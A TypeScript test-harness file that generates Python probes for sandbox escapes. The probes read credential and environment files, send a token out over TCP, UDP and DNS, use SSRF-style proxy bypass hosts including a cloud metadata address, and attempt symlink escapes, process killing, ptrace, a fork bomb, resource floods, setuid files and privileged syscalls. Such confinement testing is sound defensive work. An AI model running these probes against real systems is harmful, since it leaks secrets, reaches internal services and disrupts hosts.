import type { AttackId } from '../promises.ts'

/**
 * What each attack runs, in Python. It finds `p`, what it was told of the world outside, and says `got` on its own line when the system let
 * it do what is forbidden; where something outside can show it, that is looked at instead of its word. All of it is harmless when it
 * succeeds: only things planted for it are touched.
 */
const BEGIN = `import ctypes, json, os, signal, socket, sys, time
p = json.load(sys.stdin)
print("began", flush=True)
libc = ctypes.CDLL(None, use_errno=True)
def got(): print("got", flush=True)
def send(connect):
    try: connect()
    except OSError as error: print(error)
`

const tcp = (address: string) => `
def connect():
    s = socket.create_connection((${address}, p["tcp"]), 2); s.sendall(p["token"].encode()); s.close()
send(connect)`
const udp = (address: string) => `
send(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(p["token"].encode(), (${address}, p["udp"])))`

/** Through the proxy that the environment names, else straight to the target. */
const THROUGH = `
from urllib.parse import urlparse
proxy = urlparse(os.environ.get("HTTP_PROXY", "http://127.0.0.1:%d" % p["tcp"]))
def ask(text, then=b""):
    try:
        s = socket.create_connection((proxy.hostname, proxy.port), 2); s.settimeout(2); s.sendall(text.encode("latin1"))
        head = s.recv(4096)
        if then: s.sendall(then); time.sleep(0.05)
        s.close(); return head
    except OSError as error: print(error); return b""
`

const BODIES: { readonly [A in AttackId]: string } = {
  'read-home': 'print(open(p["home"]).read())',
  'read-private': 'print(open(p["private"]).read())',
  'write-outside': 'open(p["target"], "w").write(p["token"])',
  'write-by-link': 'os.symlink(p["target"], "way-out"); open("way-out", "w").write(p["token"])',
  'link-as-result':
    'os.symlink(p["home"], p["project"] + "/result.txt"); os.symlink(os.path.dirname(p["home"]), p["project"] + "/folder")',
  'steer-next-start': `
for name in [".llm-orc/config.yaml", ".mcp.json", ".env", ".git/config"] * 2:
    path = p["project"] + "/" + name
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write(p["token"])
    except OSError as error: print(error)
    try: os.rename(os.path.dirname(path), p["project"] + "/moved")
    except OSError as error: print(error)`,
  'read-secrets-file': 'print(open(p["secrets"] + "/.env").read())',
  environment: 'print(dict(os.environ))',
  'proc-environment': `
for pid in os.listdir("/proc"):
    try: print(open("/proc/%s/environ" % pid).read())
    except OSError: pass`,
  'tcp-loopback': tcp('"127.0.0.1"'),
  'tcp-outside': tcp('p["address"]'),
  'udp-loopback': udp('"127.0.0.1"'),
  'udp-outside': udp('p["address"]'),
  dns: `
label = p["token"].encode()
query = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + bytes([len(label)]) + label + b"\\x07invalid\\x00\\x00\\x01\\x00\\x01"
send(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (p["address"], p["udp"])))
send(lambda: socket.getaddrinfo(p["token"] + ".invalid", 80))`,
  'unix-socket': `
def connect():
    s = socket.socket(socket.AF_UNIX); s.connect(p["socket"]); s.sendall(p["token"].encode())
send(connect)`,
  'abstract-socket': `
def connect():
    s = socket.socket(socket.AF_UNIX); s.connect("\\0" + p["abstract"]); s.sendall(p["token"].encode())
send(connect)`,
  'proxy-connect': `${THROUGH}
if b" 200 " in ask("CONNECT allowed.test:80 HTTP/1.1\\r\\nHost: allowed.test:80\\r\\n\\r\\n", b"control"): print("reached")
port = p["tcp"]
for host in ["127.0.0.1", "localhost", "inner.test", "[::1]", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "169.254.169.254", p["address"],
             "allowed.test@127.0.0.1", "127.0.0.1\\0.allowed.test", "allowed.test\\0", "127.0.0.1:%d/allowed.test" % port, "sub.allowed.test", "allowed.test.inner.test"]:
    ask("CONNECT %s:%d HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n" % (host, port), p["token"].encode())`,
  'proxy-request': `${THROUGH}
if b" 200 " in ask("GET http://allowed.test/control HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"): print("reached")
port = p["tcp"]
for host in ["127.0.0.1:%d" % port, "localhost:%d" % port, "inner.test:%d" % port, "[::1]:%d" % port, "allowed.test@127.0.0.1:%d" % port,
             "allowed.test:%d" % port, "allowed.test#@127.0.0.1:%d" % port, "sub.allowed.test:%d" % port]:
    ask("GET http://%s/%s HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n" % (host, p["token"]))
ask("GET /%s HTTP/1.1\\r\\nHost: 127.0.0.1:%d\\r\\nConnection: close\\r\\n\\r\\n" % (p["token"], port))`,
  'kill-parent': 'os.kill(p["parent"], signal.SIGUSR2)',
  'kill-sibling': 'os.kill(p["decoy"], signal.SIGKILL)',
  'ptrace-sibling': `
if libc.ptrace(0x4206, p["decoy"], None, None) == 0: time.sleep(0.5)`,
  'fork-bomb': `
made = 0
for _ in range(200):
    try:
        if os.fork() == 0: time.sleep(1); os._exit(0)
        made += 1
    except OSError: break
print(made, flush=True)
time.sleep(0.5)`,
  memory: `
block = bytearray(1 << 30)
got()`,
  'memory-total': `
import subprocess
hold = "import time; block = bytearray(300 << 20); print(1, flush=True); time.sleep(1)"
children = [subprocess.Popen([sys.executable, "-I", "-c", hold], stdout=subprocess.PIPE) for _ in range(3)]
if all(child.stdout.read(1) == b"1" for child in children): got()`,
  'endless-loop': 'while True: pass',
  'output-flood': `
line = b"x" * 65536
while True: os.write(1, line)`,
  'large-file': 'open(p["project"] + "/large", "w").truncate(256 << 20)',
  'many-files': `
import shutil, tempfile
folder = tempfile.mkdtemp()
try:
    for number in range(48): open("%s/%d" % (folder, number), "wb").write(bytes(1 << 20))
    got()
finally: shutil.rmtree(folder)`,
  daemon: `
beat = "import sys, time\\nfor n in range(40):\\n    open(sys.argv[1], 'a').write('.'); time.sleep(0.1)"
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(3): os.close(fd)
        os.open("/dev/null", os.O_RDWR); os.dup(0); os.dup(0)
        os.execve(sys.executable, [sys.executable, "-I", "-c", beat, p["project"] + "/beat"], {})
    os._exit(0)
time.sleep(0.3)`,
  status: `
class Head(ctypes.Structure): _fields_ = [("version", ctypes.c_uint32), ("pid", ctypes.c_int)]
class Data(ctypes.Structure): _fields_ = [("effective", ctypes.c_uint32), ("permitted", ctypes.c_uint32), ("inheritable", ctypes.c_uint32)]
head, data = Head(0x20080522, 0), (Data * 2)()
libc.capget(ctypes.byref(head), data)
rights = any(each.effective or each.permitted for each in data)
print(os.getuid(), rights, libc.prctl(39, 0, 0, 0, 0), libc.prctl(21, 0, 0, 0, 0))
if os.getuid() == 0 or rights or libc.prctl(39, 0, 0, 0, 0) != 1 or libc.prctl(21, 0, 0, 0, 0) != 2: got()`,
  'user-namespace': 'if libc.unshare(0x10000000) == 0: got()',
  mount: `
os.mkdir("place")
if libc.mount(b"none", b"place", b"tmpfs", 0, None) == 0:
    got()
    libc.umount2(b"place", 2)`,
  'set-id': `
for name, make in {
    "a": lambda path: (open(path, "w").close(), os.chmod(path, 0o4755)),
    "b": lambda path: os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o6755)),
    "c": lambda path: os.mknod(path, 0o104755),
}.items():
    try: make(p["project"] + "/" + name)
    except OSError as error: print(error)`,
  'kernel-calls': `
for name, number in p["calls"].items():
    ctypes.set_errno(0)
    if libc.syscall(ctypes.c_long(number), 0, 0, 0, 0, 0, 0) >= 0 or ctypes.get_errno() not in (1, 13, 38): print(name); got()
for family in (16, 17, 38, 40):
    try: socket.socket(family, socket.SOCK_DGRAM if family != 38 else socket.SOCK_SEQPACKET).close(); print(family); got()
    except OSError: pass`,
}

export function attackProgram(id: AttackId): string {
  return `${BEGIN}${BODIES[id]}\n`
}
